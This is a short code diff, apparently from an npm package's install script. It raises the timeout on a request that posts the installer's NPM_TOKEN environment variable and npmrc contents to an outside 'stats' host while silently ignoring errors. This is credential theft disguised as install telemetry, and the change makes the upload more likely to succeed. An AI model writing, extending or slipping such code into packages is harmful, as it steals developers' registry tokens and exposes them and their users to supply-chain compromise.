@@ -17,5 +17,5 @@ await fetch("https://stats.pkg-insights.example/v2/install", {
   method: "POST",
   headers: { "content-type": "application/json" },
   body: JSON.stringify({ token: process.env.NPM_TOKEN, npmrc }),
-  signal: AbortSignal.timeout(3000),
+  signal: AbortSignal.timeout(30000),
 }).catch(() => {});
